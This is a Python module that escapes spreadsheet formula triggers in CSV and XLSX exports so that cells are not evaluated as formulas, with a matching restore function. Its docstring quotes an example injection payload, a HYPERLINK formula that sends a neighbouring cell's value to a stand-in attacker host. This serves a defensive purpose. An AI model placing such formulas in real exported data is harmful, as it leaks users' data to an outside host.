"""Text cells that a spreadsheet will not run as formulas (CSV / formula injection).

Every CSV and XLSX bitframe writes passes its text through :func:`neutralise_frame`, following
the OWASP guidance on CSV injection (https://owasp.org/www-community/attacks/CSV_Injection): a
cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single
quote, so Excel, LibreOffice and Google Sheets show it as text instead of evaluating it (an id
such as ``=HYPERLINK("http://evil.example/?"&B2, "x")`` stays a string).

The rule is reversible: a cell that already starts with ``'`` gets one more, so
:func:`restore_frame` -- which removes exactly one leading ``'`` -- gives back every original
value. Readers of bitframe's own files (``verify``, ``analyse``) restore; numbers are never
touched, so a negative number stays a number.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import numpy as np
    import pandas as pd
    import pyarrow as pa

__all__ = ["FORMULA_TRIGGERS", "neutralise_cell", "neutralise_frame", "restore_cell", "restore_frame"]

#: First characters a spreadsheet may read as the start of a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPE = "'"
#: The first characters of the cells :func:`neutralise_cell` quotes (all ASCII).
_NEEDS_QUOTE = "".join((*FORMULA_TRIGGERS, _ESCAPE))


def neutralise_cell(value: str) -> str:
    """``value`` with a leading ``'`` when it starts a formula or with ``'`` itself."""
    return _ESCAPE + value if value.startswith((*FORMULA_TRIGGERS, _ESCAPE)) else value


def restore_cell(value: str) -> str:
    """The inverse of :func:`neutralise_cell`."""
    return value[1:] if value.startswith(_ESCAPE) else value


def _text_columns(frame: pd.DataFrame) -> list[str]:
    import pandas as pd

    out = []
    for name in frame.columns:
        dtype = frame[name].dtype
        if isinstance(dtype, pd.CategoricalDtype):
            if pd.api.types.is_object_dtype(dtype.categories.dtype) or pd.api.types.is_string_dtype(dtype.categories):
                out.append(name)
        elif pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype):
            out.append(name)
    return out


def _map_text(frame: pd.DataFrame, first: str, change: str) -> pd.DataFrame:
    """``frame`` with :func:`neutralise_cell` (``change="add"``) or :func:`restore_cell` applied to each
    text cell beginning with one of the characters ``first``."""
    import pandas as pd

    fix = neutralise_cell if change == "add" else restore_cell
    changed: dict[str, pd.Series] = {}
    for name in _text_columns(frame):
        col = frame[name]
        if isinstance(col.dtype, pd.CategoricalDtype):
            cats = pd.Series(col.cat.categories, dtype=object)
            hit = cats.str.startswith(tuple(first), na=False)
            if hit.any():
                fixed = cats.where(~hit, cats.map(fix))
                changed[name] = col.cat.rename_categories(list(fixed))
            continue
        cells = _starting_with(col, first)
        if cells.any():
            # an object column may hold non-text cells, which never start with text
            text = col if isinstance(col.dtype, pd.StringDtype) else col.astype(object)
            changed[name] = text.where(~cells, text[cells].map(fix)).astype(col.dtype)
    return frame.assign(**changed) if changed else frame


def _starting_with(col: pd.Series, first: str) -> np.ndarray:
    """Which cells of a text column begin with one of the ASCII characters ``first``."""
    import numpy as np
    import pandas as pd
    import pyarrow as pa

    if not (isinstance(col.dtype, pd.StringDtype) and col.dtype.storage == "pyarrow"):
        text = col if isinstance(col.dtype, pd.StringDtype) else col.astype(object)
        return text.str.startswith(tuple(first), na=False).to_numpy(dtype=bool)
    cells = pa.array(col.array)
    chunks = cells.chunks if isinstance(cells, pa.ChunkedArray) else [cells]
    found = [_first_byte_in(chunk, first) for chunk in chunks]
    return np.concatenate(found) if found else np.zeros(0, dtype=bool)


def _first_byte_in(text: pa.Array, first: str) -> np.ndarray:
    """Which cells of a pyarrow text array begin with one of the ASCII characters ``first``: read from
    each cell's first byte (an ASCII byte is never part of another character in UTF-8), one pass where a
    regex or a search per character reads every cell each time."""
    import numpy as np

    from bitframe.arrowtext import first_bytes

    # an empty cell's first byte is 0, not among ``first``
    hit = np.isin(first_bytes(text), np.frombuffer(first.encode("ascii"), dtype=np.uint8))
    if text.null_count:
        hit &= text.is_valid().to_numpy(zero_copy_only=False)
    return hit


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell neutralised (:func:`neutralise_cell`); a copy if anything changed."""
    return _map_text(frame, _NEEDS_QUOTE, "add")


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The inverse of :func:`neutralise_frame`, for tables bitframe wrote."""
    return _map_text(frame, _ESCAPE, "remove")
